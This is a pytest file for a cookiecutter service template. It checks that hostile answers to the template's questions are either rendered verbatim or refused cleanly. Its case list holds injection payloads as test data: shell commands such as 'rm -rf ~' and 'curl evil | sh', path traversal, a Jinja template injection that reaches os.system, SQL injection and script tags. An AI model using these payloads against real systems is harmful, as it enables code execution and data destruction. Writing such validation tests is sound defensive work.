"""Answers that mean harm, or none: each is rendered as what it says, or refused in one line with nothing left on disk.

docs/template.md shows the same table.
"""

from __future__ import annotations

import json
import re
import tomllib
from dataclasses import dataclass
from importlib.metadata import packages_distributions
from runpy import run_path
from typing import TYPE_CHECKING, Any

import pytest

from tests.template.rendering import ROOT, TEMPLATE, program

if TYPE_CHECKING:
    from pathlib import Path

DOCS = (ROOT / "docs" / "template.md").read_text()
CALL = "cycler.__init__.__globals__.os.system('touch called')"


@dataclass(frozen=True)
class Case:
    """An answer, and what of the refusal is in its line; None where it is rendered."""

    question: str
    answer: str
    refused: str | None = None


CASES = (
    Case("project_name", "", "must not be empty"),
    Case("project_name", "   ", "must not be empty"),
    Case("project_name", "🚀", "must be of letters"),
    Case("project_name", "3D Shop", "must begin with a letter"),
    Case("project_name", "../../etc/cron.d", "must be of letters"),
    Case("project_name", "/etc/shop", "must be of letters"),
    Case("project_name", "shop; rm -rf ~", "must be of letters"),
    Case("project_name", "$(touch called)", "must be of letters"),
    Case("project_name", "shop\nRUN curl evil | sh", "must be one line"),
    Case("project_name", 'shop"; import os #', "must be of letters"),
    Case("project_name", "class", "a word of Python's"),
    Case("project_name", "Match", "a word of Python's"),
    Case("project_name", "JSON", "a module of Python's standard library"),
    Case("project_name", "launcher", "a package that the service or its tests need"),
    Case("project_name", "Oslo Config", "a package that the service or its tests need"),
    Case("project_name", "x" * 41, "must not be longer than 40 characters"),
    Case("project_name", "{{ 7 * 7 }}", "must not contain {{ {% {#"),
    Case("project_name", "Größe -- Maß_2.0"),
    Case("project_name", "日本 shop"),
    Case("description", f"{{{{ {CALL} }}}}", "must not contain {{ {% {#"),
    Case("description", "{% for", "must not contain {{ {% {#"),
    Case("description", "first line\nsecond line", "must be one line"),
    Case("description", "shop \u202e gnp.exe", "must be one line"),
    Case("description", "\x1b[2J", "must be one line"),
    Case("description", "'''\"\"\"; import os; os.system('touch called') # $(touch called) `touch called` ${HOME}"),
    Case("description", "<script>alert(1)</script> <!-- & C:\\new\\table %s {0} }} *.* [x](y)"),
    Case("author", 'Robert"); DROP TABLE Students;--'),
    Case("author", "O'Brien \\ Søns, 東京 🚀"),
    Case("author", "a" * 201, "must not be longer than 200 characters"),
    Case("http_port", "80", "must be a number from 1024 to 65535"),
    Case("http_port", "8080; touch called", "must be a number"),
    Case("http_port", "\uff18\uff10\uff18\uff10", "must be a number"),
    Case("http_port", "08080", "must be a number"),
    Case("workers", "0", "must be a number from 1 to 1000, or auto"),
    Case("workers", "$(nproc)", "must be a number from 1 to 1000, or auto"),
    Case("workers", "2\nservices = os:abort", "must be a number from 1 to 1000, or auto"),
)


def shown(text: str) -> str:
    """Write an answer so that a table shows it and a terminal does not obey it."""
    text = json.dumps(text, ensure_ascii=False)
    hidden = "".join(char if char.isprintable() else f"\\u{ord(char):04x}" for char in text)
    return (hidden if len(hidden) <= 90 else f"{hidden[:8]}... ({len(text) - 2} characters)").replace("|", "\\|")


def row(case: Case) -> str:
    gave = "rendered as it is" if case.refused is None else f"refused: {case.refused}"
    return f"| `{case.question}` | `` {shown(case.answer)} `` | {gave} |"


def everything_in(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.question}={case.answer[:20]!a}")
def test_an_answer_is_rendered_as_it_is_or_refused_in_one_line(case: Case, tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.chdir(tmp_path)
    done = program(tmp_path, f"{case.question}={case.answer}")
    if case.refused is None:
        assert done.returncode == 0, done.stdout + done.stderr
        (project,) = (tmp_path / "out").iterdir()
        assert reads_back(case, project)
    else:
        (line,) = (done.stdout + done.stderr).splitlines()
        assert re.match(rf"template: (?:{case.question}|an answer) = ", line)
        assert case.refused in line
        assert done.returncode == 1
        assert not everything_in(tmp_path / "out")
    assert not (tmp_path / "called").exists()
    left = [path.relative_to(tmp_path) for path in everything_in(tmp_path / "temporary")]
    assert all(path.parts[1] == ".cookiecutter_replay" for path in left)  # its memory of the last answers


def test_what_is_none_of_the_choices_is_refused_in_a_line_each_and_nothing_is_left(tmp_path: Path) -> None:
    done = program(tmp_path, "kind=other", "swarm=perhaps", "kubernetes=on", "ci=\x1b[2J", "license=MIT")
    assert done.returncode == 1
    assert done.stderr.splitlines() == [
        "template: kind = 'other': must be one of api, worker, scheduler, full",
        "template: swarm = 'perhaps': must be yes or no",
        "template: ci = '\\x1b[2J': must be one of github, gitlab, none",
    ]
    assert done.stdout == "Pre-Prompt Hook script failed\n"  # cookiecutter's own
    assert not everything_in(tmp_path)


def reads_back(case: Case, project: Path) -> bool:
    """Tell whether who reads the project finds the answer in it, as it was given."""
    metadata = tomllib.loads((project / "pyproject.toml").read_text())["project"]
    readme = (project / "README.md").read_text()
    match case.question:
        case "project_name":
            return f"# {case.answer}\n" in readme and metadata["name"].isascii()
        case "description":
            return metadata["description"] == case.answer and re.sub(r"\\(.)", r"\1", readme).count(case.answer) == 1
        case _:
            return metadata["authors"] == [{"name": case.answer}]


def test_no_package_can_hide_one_that_is_needed() -> None:
    own = TEMPLATE / "{{cookiecutter.__slug}}" / "requirements"
    locks = [*own.glob("*.txt*"), ROOT / "requirements" / "test.txt"]
    needed = {canonical(name) for lock in locks for name in re.findall(r"^([\w.-]+)==", lock.read_text(), re.MULTILINE)}
    packages = {
        package
        for package, distributions in packages_distributions().items()
        if needed.intersection(map(canonical, distributions)) and package[0].isalpha()
    }
    assert {"eventlet", "oslo_config", "pytest", "redis"} < packages
    problem = run_path(str(TEMPLATE / "hooks" / "pre_gen_project.py"))["problem_of_name"]
    assert not [name for name in sorted(packages) if not problem(name, name.replace("_", "-"), name)]


def canonical(distribution: str) -> str:
    return re.sub(r"[-_.]+", "-", distribution).lower()


def test_the_documentation_shows_this_table() -> None:
    assert "\n".join(map(row, CASES)) in DOCS


if __name__ == "__main__":
    print("\n".join(map(row, CASES)))  # noqa: T201 - for the documentation
